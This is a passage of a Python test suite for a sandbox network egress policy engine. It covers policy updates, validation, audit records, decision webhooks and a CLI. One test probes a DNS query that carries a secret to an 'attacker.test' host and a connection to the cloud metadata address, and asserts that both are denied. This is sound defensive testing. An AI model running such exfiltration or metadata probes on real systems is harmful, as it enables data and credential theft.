        t = threading.Thread(target=lambda: out.__setitem__("start", admin.post("/v1/cells/%s/start" % cid)))
        t.start()
        time.sleep(rnd.random() * 0.05)
        put = admin.put("/v1/cells/%s/policy" % cid, want)
        t.join()
        assert put.status == 200 and out["start"].status == 200, (put, out)
        assert admin.get("/v1/cells/%s" % cid).body["policy"] == want
        r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
        assert allowed(r[1 if want is p8080 else 0]) and denied(r[0 if want is p8080 else 1]), (i, r)


def test_policy_for_a_cell_without_network_applies_at_next_start(admin, cells, net):
    cid = create_cell(admin)
    cells.append(cid)
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7]])
    assert r[0]["stage"] == "connect", r
    put = admin.put("/v1/cells/%s/policy" % cid, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]})
    assert put.status == 200 and put.body["policyLive"] is False, put
    assert admin.post("/v1/cells/%s/stop" % cid).status == 200
    assert admin.post("/v1/cells/%s/start" % cid).status == 200
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert allowed(r[0]) and denied(r[1]), r


def test_create_with_invalid_policy(admin, cells, net):
    before = {c["id"] for c in admin.get("/v1/cells").body["cells"]}
    cases = [
        ({"rules": [DNS_RULE, {"host": {"name": "x.test"}}, {"tcp": {"to": "not-an-address"}}]}, "rules[2].tcp.to"),
        ({"rules": [{"tcp": {"ports": "9000-70000"}}]}, "rules[0].tcp.ports"),
        ({"rules": [{"host": {"name": "x.test"}}]}, "rules[0]"),            # host without a dns rule
        ({"rules": [{"action": "maybe", "tcp": {}}]}, "rules[0].action"),
        ({"rules": [{"tcp": {}, "udp": {}}]}, "rules[0]"),
        ({"rules": {}}, "rules"),
        ("allow", "must be an object"),          # json_dumps of a non-object was a 500
        ([{"tcp": {}}], "must be an object"),
        (7, "must be an object"),
    ]
    for policy, where in cases:
        r = create_cell(admin, policy, expect=400)
        b = dm.assert_problem(r, 400, "invalid_request", where)
        assert "policy" in b["detail"], b
    assert {c["id"] for c in admin.get("/v1/cells").body["cells"]} == before


def test_audit_net_records_and_tenants(d, admin, cells, net):
    policy = {"rules": [STRICT_DNS_RULE,
                        {"action": "deny", "ip": {"to": "link-local"}},
                        {"host": {"name": "allowed.test", "ports": 7}},
                        {"tcp": {"to": ECHO_IP, "ports": 80}}]}
    cid = create_cell(admin, policy)
    cells.append(cid)
    secret = uniq("leak")
    r = cell_probe(admin, cid, [["tcp", "allowed.test", 7, "0123456789"], ["tcp", ECHO_IP, 8080],
                                ["tcp", "169.254.169.254", 80], ["tcp", ECHO_IP, 80, "http"],
                                ["dns", secret + ".attacker.test"]])
    assert allowed(r[0]) and denied(r[1]) and denied(r[2]) and allowed(r[3]), r

    def connects():
        recs = net_records(admin, cid, lambda x: x.get("event") == "connect")
        return recs if len(recs) >= 4 else None

    recs = wait_for(connects, 10)
    assert recs, net_records(admin, cid)
    by_dst = {x["dst"]: x for x in recs}
    echo = by_dst[ECHO_IP + ":7"]
    assert echo["verdict"] == "allow" and echo["rule"] == 2 and echo["host"] == "allowed.test", echo
    # A tcp/host allow goes by the kernel fast path: IP bytes, headers included.
    assert echo["transport"] == "tcp" and echo["path"] == "kernel", echo
    assert echo["bytesOut"] > 10 and echo["bytesIn"] > 10 and echo["durationMs"] >= 0, echo
    assert echo["tenant"] == "default", echo
    http_rec = by_dst[ECHO_IP + ":80"]
    assert http_rec["verdict"] == "allow" and http_rec["rule"] == 3, http_rec
    assert http_rec["bytesOut"] > 0 and http_rec["bytesIn"] > http_rec["bytesOut"] > 0, http_rec
    no = by_dst[ECHO_IP + ":8080"]
    assert no["verdict"] == "deny" and no["rule"] == -1 and no["reason"] == "no rule matched", no
    meta = by_dst["169.254.169.254:80"]
    assert meta["verdict"] == "deny" and meta["rule"] == 1 and meta["reason"] == "denied by rule", meta
    dnsrecs = net_records(admin, cid, lambda x: x.get("event") == "dns")
    ok = [x for x in dnsrecs if x["qname"].rstrip(".") == "allowed.test" and x["qtype"] == 1]
    assert ok and ok[0]["verdict"] == "allow" and ok[0]["rcode"] == 0 and ok[0]["pinned"] >= 1 and ok[0]["rule"] == 0, dnsrecs
    leak = [x for x in dnsrecs if secret in x["qname"]]
    assert leak and leak[0]["verdict"] == "deny" and leak[0]["rcode"] == 3, dnsrecs
    # Records carry no header values or request bodies.
    assert "probe" not in json.dumps(recs)

    # Another tenant sees none of it.
    token, _ = dm.make_tenant_token(admin, "egress-other")
    other = admin.with_token(token)
    r = other.get("/v1/audit", query={"kind": "net", "limit": 10000})
    assert r.status == 200, r
    assert not [x for x in r.body["records"] if x.get("cell") == cid or x.get("tenant") != "egress-other"], r.body
    dm.assert_problem(admin.get("/v1/audit", query={"kind": "bogus"}), 400)


@pytest.fixture(scope="module")
def webhook():
    w = netfake.DecideHook()
    yield w
    w.close()


def decide_rule(url, **kw):
    rule = {"url": url, "to": ECHO_IP, "ports": [7, 8080]}
    rule.update(kw)
    return {"decide": rule}


def test_decide_webhook_allow_deny_timeout(admin, cells, net, webhook):
    ua, ud, us, ue = webhook.url("allow"), webhook.url("deny"), webhook.url("slow"), webhook.url("error")
    policy = {"rules": [{"decide": {"url": ua, "to": ECHO_IP, "ports": 7}},
                        {"decide": {"url": ud, "to": ECHO_IP, "ports": 8080}},
                        {"decide": {"url": us, "timeout_ms": 300, "to": ECHO_IP, "ports": 80}},
                        {"decide": {"url": ue, "to": OTHER_IP, "ports": 80}}]}
    cid = create_cell(admin, policy)
    cells.append(cid)
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080], ["tcp", ECHO_IP, 80, "http"],
                                ["tcp", OTHER_IP, 80, "http"]])
    assert allowed(r[0]), r[0]
    assert denied(r[1]), r[1]
    assert denied(r[2]) and r[2]["ms"] < 1400, r[2]      # the webhook's 1.5 s answer came too late
    assert denied(r[3]), r[3]                             # not a 200: denied, whatever the body says
    hit = webhook.count(ua)
    assert len(hit) == 1, webhook.hits
    assert hit[0]["cell"] == cid and hit[0]["dst"] == ECHO_IP + ":7" and hit[0]["transport"] == "tcp", hit
    assert hit[0]["rule"] == 0 and hit[0]["tenant"], hit
    assert len(webhook.count(ud)) == 1 and len(webhook.count(us)) == 1 and len(webhook.count(ue)) == 1
    recs = wait_for(lambda: [x for x in net_records(admin, cid, lambda x: x.get("event") == "connect")
                             if x["dst"] == ECHO_IP + ":80"], 10)
    assert recs and recs[0]["verdict"] == "deny" and recs[0]["reason"] == "decide", recs


def test_decide_webhook_cache(admin, cells, net, webhook):
    cached, uncached = webhook.url("allow"), webhook.url("allow")
    policy = {"rules": [{"decide": {"url": cached, "cache_s": 60, "to": ECHO_IP, "ports": 7}},
                        {"decide": {"url": uncached, "to": ECHO_IP, "ports": 8080}}]}
    cid = create_cell(admin, policy)
    cells.append(cid)
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7]] * 3 + [["tcp", ECHO_IP, 8080]] * 2)
    assert all(allowed(x) for x in r), r
    assert len(webhook.count(cached)) == 1, webhook.hits
    assert len(webhook.count(uncached)) == 2, webhook.hits


def test_udp_audit_and_live_policy(admin, net):
    p7 = {"rules": [{"udp": {"to": ECHO_IP, "ports": 7}}]}
    cid = create_cell(admin, p7)
    try:
        r = cell_probe(admin, cid, [["udp", ECHO_IP, 7, {"data": "0123456789", "n": 3}],
                                    ["udp", ECHO_IP, 8080, {"n": 3, "timeout": 0.3}]])
        assert r[0]["ok"] and not r[1]["ok"] and r[1]["got"] == 0, r
        put = admin.put("/v1/cells/%s/policy" % cid, {"rules": [{"udp": {"to": ECHO_IP, "ports": 8080}}]})
        assert put.status == 200 and put.body["policyLive"] is True, put
        # New associations get the new policy.
        r = cell_probe(admin, cid, [["udp", ECHO_IP, 7], ["udp", ECHO_IP, 8080, {"data": "abc"}]])
        assert not r[0]["ok"] and r[1]["ok"] and r[1]["data"] == "abc", r
    finally:
        # Associations end when idle or with the engine: their records then.
        assert admin.delete("/v1/cells/%s" % cid).status in (200, 204)

    def udp_records():
        recs = net_records(admin, cid, lambda x: x.get("event") == "connect" and x.get("transport") == "udp")
        return recs if len([x for x in recs if x["verdict"] == "allow"]) >= 2 else None

    recs = wait_for(udp_records, 10)
    assert recs, net_records(admin, cid)
    allow7 = [x for x in recs if x["verdict"] == "allow" and x["dst"] == ECHO_IP + ":7"]
    assert len(allow7) == 1, recs
    a = allow7[0]
    assert a["rule"] == 0 and a["bytesOut"] == 30 and a["bytesIn"] == 30 and a["durationMs"] >= 0, a
    assert a["src"].startswith(("127.0.0.1:", "10.213.")) and a["tenant"] == "default" and a["kind"] == "net", a
    # Three datagrams of one denied association: one record.
    deny8080 = [x for x in recs if x["verdict"] == "deny" and x["dst"] == ECHO_IP + ":8080"]
    assert len(deny8080) == 1 and deny8080[0]["reason"] == "no rule matched" and deny8080[0]["rule"] == -1, recs
    deny7 = [x for x in recs if x["verdict"] == "deny" and x["dst"] == ECHO_IP + ":7"]
    assert len(deny7) == 1, recs
    allow8080 = [x for x in recs if x["verdict"] == "allow" and x["dst"] == ECHO_IP + ":8080"]
    assert len(allow8080) == 1 and allow8080[0]["bytesOut"] == 3 and allow8080[0]["bytesIn"] == 3, recs


def test_udp_decide(admin, cells, net, webhook):
    ua, ud = webhook.url("allow"), webhook.url("deny")
    policy = {"rules": [{"decide": {"url": ua, "to": ECHO_IP, "ports": 7}},
                        {"decide": {"url": ud, "to": ECHO_IP, "ports": 8080}}]}
    cid = create_cell(admin, policy)
    cells.append(cid)
    r = cell_probe(admin, cid, [["udp", ECHO_IP, 7, {"n": 2}], ["udp", ECHO_IP, 8080, {"n": 2, "timeout": 0.3}]])
    assert r[0]["ok"], r[0]                 # the first datagram waited for the answer
    assert not r[1]["ok"], r[1]
    hit = webhook.count(ua)
    assert len(hit) == 1 and hit[0]["transport"] == "udp" and hit[0]["dst"] == ECHO_IP + ":7", webhook.hits
    assert len(webhook.count(ud)) == 1, webhook.hits     # asked once per association, not per datagram
    recs = wait_for(lambda: [x for x in net_records(admin, cid, lambda x: x.get("event") == "connect")
                             if x["dst"] == ECHO_IP + ":8080"], 10)
    assert recs and recs[0]["verdict"] == "deny" and recs[0]["reason"] == "decide" and recs[0]["transport"] == "udp", recs


# ---- the CLI as a client ----------------------------------------------------------------


def test_cli_create_policy_set_audit(d, admin, cells, net, tmp_path):
    env = dict(os.environ)
    env.pop("CELL_TOKEN", None)
    env.pop("CELL_URL", None)

    def cli(*args):
        return run_cell(d.state, ["--url", "http://127.0.0.1:%d" % d.port] + list(args), env=env, timeout=60)

    p7 = write_policy(tmp_path, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]})
    p8080 = write_policy(tmp_path, {"rules": [{"tcp": {"to": ECHO_IP, "ports": 8080}}]})
    junk = write_policy(tmp_path, "this is { not json")
    invalid = write_policy(tmp_path, {"rules": [{"tcp": {"to": ECHO_IP}}, {"tcp": {"ports": 70000}}]})

    r = cli("create", "--policy", junk)
    assert r.returncode == 2 and "not a JSON document" in r.stderr and junk in r.stderr, r
    r = cli("create", "--policy", str(tmp_path / "missing.json"))
    assert r.returncode == 2 and "missing.json" in r.stderr, r
    r = cli("create", "--policy", invalid)
    assert r.returncode == 1 and "rules[1].tcp.ports" in r.stderr, r
    assert "--policy FILE" in cli("create", "--help").stdout
    assert "policy set ID FILE" in cli("policy", "--help").stdout
    assert "--net" in cli("audit", "--help").stdout

    r = cli("create", "--memory", "128M", "--policy", p7)
    assert r.returncode == 0, r
    cid = r.stdout.strip()
    cells.append(cid)
    assert admin.get("/v1/cells/%s" % cid).body["policy"] == {"rules": [{"tcp": {"to": ECHO_IP, "ports": 7}}]}
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080]])
    assert allowed(r[0]) and denied(r[1]), r

    r = cli("policy", "set", cid, junk)
    assert r.returncode == 2 and "not a JSON document" in r.stderr, r
    r = cli("policy", "set", cid, invalid)
    assert r.returncode == 1 and "rules[1].tcp.ports" in r.stderr, r
    r = cli("policy", "set", "000000000000", p8080)
    assert r.returncode == 1, r
    r = cli("policy", "set", cid, p8080)
    assert r.returncode == 0 and "applied live" in r.stdout, r
    r = cell_probe(admin, cid, [["tcp", ECHO_IP, 7], ["tcp", ECHO_IP, 8080, "abc"]])
    assert denied(r[0]) and allowed(r[1]), r
    r = cli("--json", "policy", "set", cid, p8080)
    assert r.returncode == 0 and json.loads(r.stdout)["policyLive"] is True, r

    def lines():
        out = cli("audit", "--net", "--limit", "10000")
        assert out.returncode == 0, out
        mine = [l for l in out.stdout.splitlines() if cid in l]
        return mine if any("-> %s:8080" % ECHO_IP in l and " allow " in l for l in mine) else None

    mine = wait_for(lines, 10)
    assert mine, cli("audit", "--net").stdout
    allow8080 = [l for l in mine if " allow tcp " in l and "-> %s:8080" % ECHO_IP in l]
    assert allow8080 and "rule=0" in allow8080[0] and " bytes=" in allow8080[0] and " via=kernel" in allow8080[0], mine
    allow7 = [l for l in mine if " allow tcp " in l and "-> %s:7 " % ECHO_IP in l]
    deny7 = [l for l in mine if " deny tcp " in l and "-> %s:7 " % ECHO_IP in l]
    assert allow7 and deny7 and "(no rule matched)" in deny7[0], mine   # before and after the change
    assert any(l.split()[1] == "policy" for l in mine), mine
    r = cli("--json", "audit", "--net")
    assert r.returncode == 0, r
    assert all(x["kind"] == "net" for x in json.loads(r.stdout)["records"]), r.stdout
